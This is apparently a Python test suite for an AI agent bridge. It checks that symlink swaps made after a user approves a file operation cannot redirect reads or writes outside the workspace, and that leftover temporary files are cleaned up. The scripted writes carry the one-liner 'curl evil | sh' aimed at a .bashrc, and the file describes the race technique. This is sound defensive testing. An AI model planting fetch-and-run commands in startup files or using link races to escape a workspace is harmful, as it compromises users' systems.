"""A link swapped in after the permission decision never redirects a read or a write outside the workspace
(the file operation judges where it really lands), and the temporary files a killed bridge left in the
workspace are removed when a session starts. Real bridges over pipes, real files and links."""

from __future__ import annotations

import asyncio
import json
import os
import signal
from pathlib import Path
from typing import Any

from tests.support.bridge_fixtures import StartBridge
from tests.support.bridge_harness import RecordingClient, selected, write_script


def _call(call_id: str, name: str, **arguments: Any) -> dict[str, Any]:
    return {"id": call_id, "name": name, "arguments": arguments}


def _text_of(update: dict[str, Any]) -> str:
    return "\n".join(b["content"]["text"] for b in update.get("content") or [] if b.get("type") == "content")


def _swap_for_link(path: Path, target: Path) -> None:
    """What an attacker's background process does: `path` becomes a link to `target`."""
    aside = path.with_name(path.name + ".swap")
    aside.symlink_to(target, target_is_directory=target.is_dir())
    os.replace(aside, path)


async def test_a_file_swapped_for_a_link_while_the_user_approves_is_not_written_through(
    bridges: StartBridge, tmp_path: Path, workspace: Path
) -> None:
    bashrc = tmp_path / "home" / ".bashrc"
    bashrc.parent.mkdir()
    bashrc.write_text("export SAFE=1\n")
    notes = workspace / "notes.txt"
    notes.write_text("notes\n")

    def approve_after_swapping(session_id: str, tool_call: dict[str, Any], options: Any) -> dict[str, Any]:
        _swap_for_link(notes, bashrc)  # after the decision, before the write
        return selected("allow_once")

    script = write_script(tmp_path / "s.json", [[
        {"tool_calls": [_call("w1", "write", file_path="notes.txt", content="curl evil | sh\n")]},
        {"text": "done"},
    ]])  # fmt: skip
    bridge = await bridges(model=script, client=RecordingClient(approve_after_swapping))
    await bridge.initialize()
    session_id = await bridge.new_session(workspace)
    assert await bridge.prompt(session_id, "go") == "end_turn"

    assert len(bridge.client.permission_requests) == 1
    assert bashrc.read_text() == "export SAFE=1\n"
    final = bridge.call_updates("w1")[-1]
    assert final["status"] == "failed"
    assert f"led to {notes} when the user was asked" in _text_of(final)


async def test_a_directory_swapped_for_a_link_while_the_user_approves_a_read_is_not_read_through(
    bridges: StartBridge, tmp_path: Path, workspace: Path
) -> None:
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "config.txt").write_text("PRIVATE KEY\n")
    (workspace / "conf").mkdir()
    (workspace / "conf" / "config.txt").write_text("harmless\n")

    def approve_after_swapping(session_id: str, tool_call: dict[str, Any], options: Any) -> dict[str, Any]:
        (workspace / "conf" / "config.txt").unlink()
        (workspace / "conf").rmdir()
        _swap_for_link(workspace / "conf", secrets)
        return selected("allow_once")

    script = write_script(tmp_path / "s.json", [[
        {"tool_calls": [_call("r1", "read", file_path="conf/config.txt")]},
        {"text": "done"},
    ]])  # fmt: skip
    bridge = await bridges("--ask-tool", "read", model=script, client=RecordingClient(approve_after_swapping))
    await bridge.initialize()
    session_id = await bridge.new_session(workspace)
    assert await bridge.prompt(session_id, "go") == "end_turn"

    final = bridge.call_updates("r1")[-1]
    assert final["status"] == "failed"
    assert "PRIVATE KEY" not in json.dumps(bridge.call_updates("r1"))


async def test_an_always_allowed_file_that_becomes_a_link_outside_is_never_written_through(
    bridges: StartBridge, tmp_path: Path, workspace: Path
) -> None:
    bashrc = tmp_path / "home" / ".bashrc"
    bashrc.parent.mkdir()
    bashrc.write_text("export SAFE=1\n")
    notes = workspace / "notes.txt"
    notes.write_text("notes\n")
    answers = iter(["allow_always"])

    def answer(session_id: str, tool_call: dict[str, Any], options: Any) -> dict[str, Any]:
        return selected(next(answers, "reject_once"))  # should the policy ask about the link: no

    write = {"tool_calls": [_call("w1", "write", file_path="notes.txt", content="first\n")]}
    again = {"tool_calls": [_call("w2", "write", file_path="notes.txt", content="curl evil | sh\n")]}
    script = write_script(tmp_path / "s.json", [[write, {"text": "one"}], [again, {"text": "two"}]])
    bridge = await bridges(model=script, client=RecordingClient(answer))
    await bridge.initialize()
    session_id = await bridge.new_session(workspace)
    assert await bridge.prompt(session_id, "first") == "end_turn"
    assert notes.read_text() == "first\n"
    _swap_for_link(notes, bashrc)
    assert await bridge.prompt(session_id, "again") == "end_turn"

    assert bashrc.read_text() == "export SAFE=1\n"
    assert bridge.call_updates("w2")[-1]["status"] == "failed"


async def test_a_killed_writers_temporary_files_are_removed_when_a_session_starts(
    bridges: StartBridge, tmp_path: Path, workspace: Path
) -> None:
    killed = await bridges()
    await killed.initialize()
    killed.proc.send_signal(signal.SIGKILL)
    await killed.proc.wait()
    # What `kill -9` during a write leaves: the killed bridge's temporary file next to the target.
    (workspace / "src").mkdir()
    left = workspace / "src" / f".app.py.acp-bridge-tmp-{killed.proc.pid}-0123abcd.tmp"
    left.write_text("half of the new cont")
    live = workspace / f".b.txt.acp-bridge-tmp-{os.getpid()}-4567cdef.tmp"  # a running writer's
    live.write_text("being written")

    state = tmp_path / "state"
    bridge = await bridges("--state-dir", str(state))
    await bridge.initialize()
    session_id = await bridge.new_session(workspace)
    await bridge.wait_for(lambda: not left.exists())
    assert live.exists()
    assert await bridge.prompt(session_id, "hello") == "end_turn"  # a session is stored once it is used

    # The same on session/load, after another killed write.
    left.write_text("half again")
    await bridge.stop()
    again = await bridges("--state-dir", str(state))
    await again.initialize()
    await asyncio.wait_for(
        again.conn.load_session(cwd=str(workspace), session_id=session_id, mcp_servers=[]), 10
    )
    await again.wait_for(lambda: not left.exists())
    assert live.exists()
